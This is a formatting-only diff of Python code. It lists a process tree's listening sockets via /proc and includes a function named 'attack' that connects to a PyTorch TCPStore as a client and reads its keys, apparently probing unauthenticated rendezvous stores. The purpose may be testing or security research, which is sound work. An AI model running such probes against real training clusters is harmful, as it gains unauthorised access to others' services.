@@ -34,8 +34,14 @@ def listening_sockets(root: int) -> set[tuple[str, int]]:
         with suppress(OSError):  # it has ended
             for link in Path(f"/proc/{process}/fd").iterdir():
                 with suppress(OSError):  # it was closed
-                    inodes.add(os.readlink(link).removeprefix("socket:[").removesuffix("]"))
-    return {(address, port) for inode, address, port in _all_listening(root) if inode in inodes}
+                    inodes.add(
+                        os.readlink(link).removeprefix("socket:[").removesuffix("]")
+                    )
+    return {
+        (address, port)
+        for inode, address, port in _all_listening(root)
+        if inode in inodes
+    }
 
 
 def _all_listening(root: int) -> Iterator[tuple[str, str, int]]:
@@ -55,11 +61,17 @@ def attack(host: str, port: int, path: str) -> int:
 
     try:
         store = TCPStore(
-            host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1)
+            host,
+            port,
+            is_master=False,
+            wait_for_workers=False,
+            timeout=timedelta(seconds=1),
         )
         # Older versions of torch do not list them.
         keys = (
-            store.list_keys() if hasattr(store, "list_keys") else [KEY, "torch.rendezvous.fsdptoys"]
+            store.list_keys()
+            if hasattr(store, "list_keys")
+            else [KEY, "torch.rendezvous.fsdptoys"]
         )
     except Exception:
         return 0  # it is no store
